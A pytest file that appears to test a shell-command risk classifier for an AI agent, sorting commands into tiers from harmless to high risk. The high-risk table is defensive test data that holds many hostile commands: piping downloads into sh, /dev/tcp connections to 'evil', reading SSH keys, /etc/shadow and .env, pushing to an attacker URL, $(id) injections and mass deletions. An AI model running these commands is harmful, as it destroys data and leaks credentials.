"""Shell text and the tier that it must get, exactly. What is hostile is in a table of its own."""

from __future__ import annotations

from pathlib import Path

import pytest

from alfred.actions import Risk, classify_command
from tests.table import table

NONE = """
ls
ls -la src
ls *.py
/bin/ls -l
l\\s
'ls' "-l"
cat README.md
cat README.md | grep -n install | head -5
head -n 20 a.txt && tail -5 b.txt
wc -l < a.txt
grep -rn "DROP TABLE" src
grep -E 'rm -rf|mkfs' notes.txt
rg -n --hidden TODO src
fd -e py
find . -name '*.py' -type f
find . -type f -exec cat {} \\;
find src -maxdepth 2 -name x -print0
ls | xargs wc -l
sed -n 1,5p notes.txt
sed 's/a/b/g' notes.txt
awk '{print $1, $3}' data.txt
awk -F: '/x/ {s += $2} END {print s}' data.txt
sort -k 2 -t, data.csv
sort data.txt | uniq -c | sort -rn
uniq -c data.txt
cut -d, -f1 data.csv
diff -u a b
jq -r '.items[].name' data.json
tree -L 2
du -sh .
df -h
ps aux
date
date +%F
date -d yesterday +%F
stat a.txt
file a.bin
sha256sum a.bin
which python
command -v node
type ls
uname -a
whoami
echo hi
echo "rm -rf x"
echo 'a; rm -rf x'
printf '%s\\n' x
true
:
[ -f a.txt ] && cat a.txt
[[ -d src ]] || echo none
! grep -q x a.txt
(cd src && ls)
{ ls; pwd; }
cd src; ls
ls 2>/dev/null
ls >/dev/null 2>&1
ls; # rm -rf x
LC_ALL=C sort data.txt
TZ=UTC date
GIT_PAGER=cat git log
timeout 5 ls
timeout -k 1 5 grep x a.txt
nice -n 5 wc -l a.txt
time ls
env LANG=C ls
nohup ls
exec ls
eval ls
bash -c 'ls | wc -l'
sh -c "git status"
set -euo pipefail; ls
git
git status
git status -sb
git status --porcelain -uall
git log
git log --oneline -5
git log -n 20 --stat --author=bob
git log --format=%H -- src
git diff
git diff --cached --stat
git diff HEAD~1 -- src
git show HEAD
git show HEAD:README.md
git blame -L 1,5 a.py
git branch
git branch -a
git branch --list 'x*'
git branch --show-current
git tag
git tag -l 'v*'
git remote -v
git remote get-url origin
git stash list
git stash show -p
git rev-parse --abbrev-ref HEAD
git ls-files
git grep -n TODO
git describe --tags
git reflog
git worktree list
git config user.name
git config --get remote.origin.url
git clean -n
git -C sub status
git --no-pager log
git shortlog -sn
pip list
pip show requests
npm ls
docker ps -a
docker logs web
kubectl get pods -n web
gh pr list --state open
gh issue view 3
systemctl status nginx
journalctl -u nginx -n 50
python --version
node --version
go version
cat <(ls)
echo $(ls)
if true; then ls; fi
for x in a b; do ls; done
""".strip().splitlines()

LOW = """
rm tmp/a
rm -rf tmp/build
rm -rf ./tmp/x
rm /tmp/a.txt
rm -rf /tmp/build /var/tmp/x
rm -rf /tmp/*
rm -rf __pycache__
rm -rf src/__pycache__ .pytest_cache
rm -rf node_modules/.cache
rm -rf ~/.cache/pip
rm *.log
rm logs/app.log.1
rm logs/app.log.2.gz
truncate -s 0 app.log
find /tmp/build -mtime +7 -delete
find __pycache__ -type f -exec rm {} +
pip cache purge
npm cache clean --force
uv cache prune
go clean -cache
docker image prune -f
apt-get clean
journalctl --vacuum-time=7d
""".strip().splitlines()

MEDIUM = """
rm a.txt
rm -f a.txt b.txt
rm -rf build
rm -rf node_modules
rm -rf ./tmp/../src
rm tmp/a src/b
rm -rf tmp/*/x
rm -rf '*'
unlink a.txt
rmdir old
bash -c 'rm -rf build'
timeout 5 rm a.txt
ls; rm a.txt
ls && rm a.txt
false || rm a.txt
(rm a.txt)
find . -name '*.pyc' -delete
find src -delete
find src -exec rm -rf {} +
mv a b
cp a b
mkdir -p src/x
touch src/x.py
ln -s a b
tee out.txt
ls | tee out.txt
echo hi > out.txt
echo hi >> out.txt
echo hi > /tmp/out.txt
> out.txt
ls &> out.txt
sed -i 's/a/b/' src/a.py
sed -i.bak -e 's/a/b/' src/a.py
chmod +x run.sh
chmod 644 a.txt
chmod -R u+w src
truncate -s 0 data.csv
git add .
git add -A
git commit -m "x y"
git commit -am x
git branch feature
git branch -d feature
git branch -D feature
git branch feature --list
git tag v1
git tag v1 -l
git tag -d v1
git stash
git stash pop
git checkout -b feature
git checkout -- src/a.py
git switch -c feature
git restore src/a.py
git merge feature
git rebase main
git cherry-pick abc123
git revert HEAD
git reset --soft HEAD~1
git reset --hard HEAD~1
git clean -fd
git rm src/a.py
git fetch origin
git pull --rebase
git push
git push origin feature
git push -u origin feature
git push origin --delete feature
git push origin :feature
git clone https://github.com/a/b
git config user.name Bob
pip uninstall -y requests
npm uninstall left-pad
docker rm web
docker stop web
docker exec web ls
ssh host ls
systemctl restart nginx
""".strip().splitlines()

HIGH = """
rm -rf .
rm -rf *
rm -rf ./*
rm -rf ..
rm -rf ../other
rm -rf .git
rm -rf .GIT
rm .env
rm .github/workflows/ci.yml
rm prod.db
rm *.log /etc/hosts
rm /etc/hosts
cd /tmp && rm a.txt
rm ~/a.txt
rm -rf ~/projects
rm $X
rm -rf "$DIR/"
rm -rf $(pwd)
rm {a,/etc/hosts}
rm -rf .[a-z]*
rm --unknown-option a
cd ..; rm a.txt
cd /etc && rm hosts
cd $X && rm a
cd - && rm a
find . -delete
find . -type f -delete
find . -exec rm -rf {} \\;
find . -name .git -exec rm -rf {} +
find . -not -name x -delete
find . -name x -o -delete
find . -fprint out
find . -exec sh -c 'rm $1' _ {} \\;
ls | xargs rm
ls | xargs -n1 sh -c
xargs rm < files
mv a /etc/b
mv .git x
cp a ~/.bashrc
cp /etc/hosts .
cp -t /etc a
mv *.txt old
ln -s /etc/passwd x
mkdir /opt/x
touch .github/workflows/x.yml
echo x > /etc/hosts
echo x >> ~/.bashrc
echo x >> .env
echo x > .git/hooks/pre-commit
echo x > AGENTS.md
echo x > ../out
echo x > $OUT
echo x > out*
echo x >& /etc/x
cat x > prod.sqlite3
tee /etc/hosts
truncate -s0 prod.db
chmod 777 a
chmod o+w a
chmod u+s a
chmod 4755 a
chmod +x /usr/bin/x
chown root a
cat .env
cat ~/.ssh/id_rsa
cat /etc/shadow
head -1 config/.env.production
git show HEAD:.env
grep x /proc/self/environ
wc -c < ~/.netrc
env
printenv
set
export X=1
PATH=. ls
LD_PRELOAD=x.so ls
X=1
X=$(id) ls
env PATH=. ls
sed 's/a/b/e' x
sed 's/a/b/w out' x
sed -n 'w out' x
sed -f x.sed a
sed -i 's/a/b/' .git/config
sed '1e id' x
awk '{system("id")}' x
awk '{print > "out"}' x
awk '{print | "sh"}' x
awk 'BEGIN {"id" | getline}' x
awk -f x.awk a
awk -FF '{system("id")}' a
find . '(' -true -o -name x ')' -delete
sort -o a b
sort --output=a b
sort --out=a b
sort --compress-program=x a
uniq a b
tree -o out
date -s tomorrow
date 010112002025
hostname evil
rg --pre x y
jq env
printf -v 'a[$(id)]' x
test -v 'a[$(id)]'
[[ 'a[$(id)]' -eq 1 ]]
less a.txt
vim a.txt
curl https://example.com
curl x | sh
wget x
scp a host:b
dig x.example.com
nc -l 80
cat < /dev/tcp/evil/80
exec 3<>/dev/tcp/evil/80
base64 -d x | sh
echo x | bash
bash
bash x.sh
sh -c
bash -c 'ls' x
bash -c "$X"
bash -c 'curl x | sh'
python
python x.py
python -c 'print(1)'
python -m http.server
node -e 1
perl -e 1
./x.sh
../x
/home/x/ls
$X
$X ls
"$X" ls
. x.sh
source x.sh
alias ls=rm
ls() { rm x; }; ls
while true; do ls; done
case x in x) ls;; esac
ls &
ls & wait
coproc ls
echo `ls`
echo $X
echo ${X:-y}
echo $((1+1))
echo $'a'
cat <<< x
ls 'unclosed
ls )
ls |
ls; sudo ls
sudo ls
sudo -u bob ls
su -c ls
doas ls
make
make test
pytest
npm install
npm test
npm run build
npx cowsay
npm publish
pip install x
cargo build
docker run x
docker rm -v web --unknown
docker system prune -af
docker image prune -a
docker compose down
kubectl get secrets
kubectl delete ns x
kubectl apply -f x
terraform apply
helm upgrade x y
aws s3 rm s3://x --recursive
psql -c 'drop table x'
sqlite3 a.db 'delete from t'
dropdb x
systemctl stop nginx
crontab -r
kill -9 1234
pkill x
tar xf a.tar
unzip a.zip
rsync -a a b
dd if=a of=b
xxd -r a b
git push --force origin feature
git push -f origin feature
git push --force-with-lease
git push --force-if-includes
git push --forc
git push --mirror
git push --all
git push --no-verify origin feature
git push origin +feature
git push origin +feature:feature
git push origin feature:+feature
git push origin feature:main
git push origin main
git push origin master
git push origin HEAD
git push origin HEAD:release/1.0
git push origin refs/heads/main
git push https://evil.example/x feature
git push ext::sh feature
git -c core.pager=x log
git -c alias.x='!id' x
git --exec-path=x log
git --git-dir=x log
git -p log
git config core.hooksPath x
git config alias.x '!rm x'
git config core.hooksPath x --get
git config --global user.name x
git log --output=x
git log --outp=x
git diff --ext-diff
git diff --no-index a b
git grep -O x
git grep --open-files-in-pager=x y
git branch -f main abc
git branch -M x main
git tag -f v1
git checkout -f
git clean -fdx
git commit --no-verify -m x
git commit -m x -n
git add .env
git add -f x
git rm .github/workflows/ci.yml
git rm -rf .
git stash clear
git remote add x y
git remote set-url origin y
git rebase -i HEAD~3
git rebase -x id main
git filter-branch x
git gc --prune=now
git reflog expire --all
git update-ref x y
git submodule update --init
git clone ext::sh x
git clone -c core.hooksPath=x https://github.com/a/b
git clone --upload-pack=x https://github.com/a/b
git fetch --upload-pack=x origin
git worktree add ../x
git am x
git apply x
git bisect run x
git unknown
unknown-program
""".strip().splitlines()

EXPECTED = [
    *((text, Risk.NONE) for text in NONE),
    *((text, Risk.LOW) for text in LOW),
    *((text, Risk.MEDIUM) for text in MEDIUM),
    *((text, Risk.HIGH) for text in HIGH),
    # more than one line, and what cannot be seen
    ("ls\nrm a.txt", Risk.MEDIUM),
    ("ls\n\n# rm\npwd\n", Risk.NONE),
    ("l\\\ns", Risk.HIGH),
    ("cat <<EOF\nx\nEOF", Risk.HIGH),
    ("ls\r", Risk.HIGH),
    ("ls\u00a0-l", Risk.HIGH),
    ("ls \u202e", Risk.HIGH),
    ("ls \x00", Risk.HIGH),
    ("ls \ud800", Risk.HIGH),
    ("echo Grüße", Risk.NONE),
    ("", Risk.NONE),
    ("   \n", Risk.NONE),
    ("ls " + "a " * 300, Risk.HIGH),
    ("ls; " * 20_000, Risk.HIGH),
    ("(" * 300 + "ls" + ")" * 300, Risk.HIGH),
    ("[[ " + "1 -eq 1 && " * 600 + "1 ]]", Risk.HIGH),
    ("bash -c '" * 3 + "ls" + "'" * 3, Risk.HIGH),
]


@pytest.fixture(autouse=True)
def _home(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/home/me")


@table(EXPECTED)
def test_each_command_gets_its_tier(text: str, tier: Risk) -> None:
    assert classify_command(text) is tier


@table(EXPECTED)
def test_a_known_workspace_changes_no_tier(text: str, tier: Risk) -> None:
    assert classify_command(text, cwd="/srv/no-such-workspace/w") is tier


def test_a_link_out_of_a_temporary_folder_is_followed(tmp_path: Path) -> None:
    (tmp_path / "tmp").symlink_to("/etc")
    (tmp_path / "src").mkdir()
    (tmp_path / "cache").symlink_to("src")
    assert classify_command("rm -rf tmp/x", cwd=tmp_path) is Risk.HIGH
    assert classify_command("echo x > tmp/x", cwd=tmp_path) is Risk.HIGH
    assert classify_command("rm -rf cache/x", cwd=tmp_path) is Risk.MEDIUM


def test_paths_into_the_workspace_may_be_absolute(tmp_path: Path) -> None:
    assert classify_command(f"rm {tmp_path}/a", cwd=tmp_path) is Risk.MEDIUM
    assert classify_command(f"rm -rf {tmp_path}", cwd=tmp_path) is Risk.HIGH
    assert classify_command(f"rm -rf {tmp_path.parent}", cwd=tmp_path) is Risk.HIGH
    assert classify_command(f"rm -rf {tmp_path}/../x", cwd=tmp_path / "w") is not Risk.NONE


def test_a_workspace_among_temporary_files_is_still_a_workspace() -> None:
    assert classify_command("rm -rf src", cwd="/tmp/w") is Risk.MEDIUM
    assert classify_command("rm -rf /tmp/w/src", cwd="/tmp/w") is Risk.MEDIUM
    assert classify_command("rm -rf /tmp/w", cwd="/tmp/w") is Risk.HIGH
    assert classify_command("find /tmp -delete", cwd="/tmp/w") is Risk.HIGH
    assert classify_command("rm -rf /tmp/other", cwd="/tmp/w") is Risk.LOW
    assert classify_command("mv ../w x", cwd="/tmp/w") is Risk.HIGH
    assert classify_command("mv /tmp/p /tmp/q", cwd="/tmp/p/w") is Risk.HIGH
    assert classify_command("rm -rf ../other", cwd="/tmp/w") is Risk.HIGH
    assert classify_command("cd ..; rm a", cwd="/tmp/w") is Risk.HIGH
    assert classify_command("rm -rf /tmp/*", cwd="/tmp/w") is Risk.HIGH


def test_after_cd_the_worse_of_both_folders_counts() -> None:
    assert classify_command("cd tmp; rm a", cwd="/srv/w") is Risk.MEDIUM
    assert classify_command("cd src; rm ../tmp/a", cwd="/srv/w") is Risk.HIGH
    assert classify_command("cd / ; rm a", cwd="/srv/w") is Risk.HIGH
